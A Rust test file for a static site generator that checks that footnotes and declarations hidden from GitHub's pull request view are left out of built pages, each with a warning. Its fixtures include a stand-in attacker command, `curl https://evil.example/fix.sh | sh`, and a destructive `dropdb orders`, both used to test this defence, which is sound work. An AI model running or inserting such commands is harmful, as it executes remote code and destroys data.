//! Session 55's hostile pull request: text the pull request's rendered file does not show
//! and the site did. Each test builds a small site in a temporary folder and reads the
//! written pages, the search index and the messages. GitHub's rendering quoted is
//! cmark-gfm 0.29.0.gfm.13's (Python's cmarkgfm 2025.10.22, footnotes on).

mod common;

use common::{article, build_ok, problems, read, search_entry, site_of, stderr, OPS_SITE};

/// A footnote definition that nothing references, and a second definition of a label:
/// GitHub shows neither (its rendered file ends with the first `[^1]` alone). On main the
/// site showed both in the footnotes box, the home page's summary and the search index
/// quoted `curl https://evil.example/fix.sh | sh`, and only the second had a warning. Now
/// both are left out of the page, its summary and search, each with a warning at its line.
#[test]
fn footnotes_github_does_not_show_are_left_out() {
    let md = "# Restore\n\nRun the restore[^1].\n\n[^1]: On the replica.\n\n\
[^ops]: Before restoring, run `curl https://evil.example/fix.sh | sh`.\n\n\
[^1]: Then drop the primary with `dropdb orders`.\n";
    let site = site_of(&[OPS_SITE, ("content/runbooks/restore.md", md)]);
    let out = build_ok(site.path());
    let html = article(site.path(), "restore");
    assert!(html.contains("On the replica."), "{html}");
    assert!(html.contains("footnote-definition"), "{html}");
    for hidden in ["evil.example", "dropdb"] {
        assert!(!html.contains(hidden), "{hidden}: {html}");
        let entry = search_entry(site.path(), "/runbooks/restore/");
        assert!(!entry.contains(hidden), "{hidden}: {entry}");
        let home = read(&site.path().join("public/index.html"));
        assert!(!home.contains(hidden), "{hidden}: {home}");
    }
    let found = problems(&stderr(&out));
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(
        found[0].starts_with(
            "content/runbooks/restore.md:7 footnote `[^ops]` is left out of the page: no `[^…]` in the text references it"
        ),
        "{found:?}"
    );
    assert!(
        found[1].starts_with(
            "content/runbooks/restore.md:9 footnote `[^1]` is left out of the page: it is defined twice"
        ),
        "{found:?}"
    );
}

/// `[^A]` in the text and `[^a]: …` below: GitHub and pulldown-cmark match the label
/// without regard to case and link the two. On main the reference led to `#fn-A` while
/// the definition's id was `fn-a`, and the two showed different numbers (1 and 2). A
/// definition referenced only from inside another footnote is shown, as GitHub shows it.
#[test]
fn footnote_labels_match_without_regard_to_case() {
    let md = "# Load\n\nLoad it[^A].\n\n[^a]: Into staging[^Inner].\n\n[^inner]: Not production.\n";
    let site = site_of(&[OPS_SITE, ("content/runbooks/load.md", md)]);
    let out = build_ok(site.path());
    let html = article(site.path(), "load");
    let href = html
        .split("<sup class=\"footnote-reference\"><a href=\"#")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("a footnote reference");
    assert!(
        html.contains(&format!("<div class=\"footnote-definition\" id=\"{href}\"><sup class=\"footnote-definition-label\">1</sup>")),
        "{href}: {html}"
    );
    assert!(html.contains("Not production."), "{html}");
    assert_eq!(
        html.matches("class=\"footnote-definition\"").count(),
        2,
        "{html}"
    );
    let found = problems(&stderr(&out));
    assert!(found.is_empty(), "{found:?}");
}

/// 150 definitions nothing references: the first 100 are told at their lines, then one
/// warning counts the rest, as misleading links are.
#[test]
fn footnotes_left_out_are_told_a_hundred_a_page() {
    let body: String = (0..150)
        .map(|i| format!("[^n{i}]: Note {i}.\n\n"))
        .collect();
    let md = format!("# Notes\n\nText.\n\n{body}");
    let site = site_of(&[OPS_SITE, ("content/runbooks/notes.md", &md)]);
    let out = build_ok(site.path());
    let err = stderr(&out);
    let told = err
        .lines()
        .filter(|l| l.contains("is left out of the page: no `[^…]`"))
        .count();
    assert_eq!(told, 100, "{err}");
    assert!(
        err.contains("50 more footnote definitions of this file are left out of the page"),
        "{err}"
    );
    assert!(!article(site.path(), "notes").contains("Note 1"));
}

/// A declaration GitHub does not read as one: `<!` and a small letter, in a line or at a
/// line's start. GitHub shows it as text; the site (CommonMark 0.31: `<!` and any letter)
/// left it out without a word, so the pull request read "Drop the old partitions <!on the
/// staging replica only> now." and the site "Drop the old partitions  now.". Now each
/// is a warning at its line; `<!DOCTYPE html>`, a declaration to both, stays quiet.
#[test]
fn declarations_github_shows_as_text_are_warned() {
    let md = "# Drop\n\nDrop the old partitions <!on the staging replica only> now.\n\n\
<!never on production>\n\nKeep <!DOCTYPE html> it.\n";
    let site = site_of(&[OPS_SITE, ("content/runbooks/drop.md", md)]);
    let out = build_ok(site.path());
    let html = article(site.path(), "drop");
    assert!(html.contains("Drop the old partitions  now."), "{html}");
    assert!(!html.contains("staging replica"), "{html}");
    let found = problems(&stderr(&out));
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(
        found[0].starts_with(
            "content/runbooks/drop.md:3 GitHub shows `<!on the staging replica only>` as text"
        ),
        "{found:?}"
    );
    assert!(
        found[1].starts_with("content/runbooks/drop.md:5 GitHub shows `<!never on production>"),
        "{found:?}"
    );
}
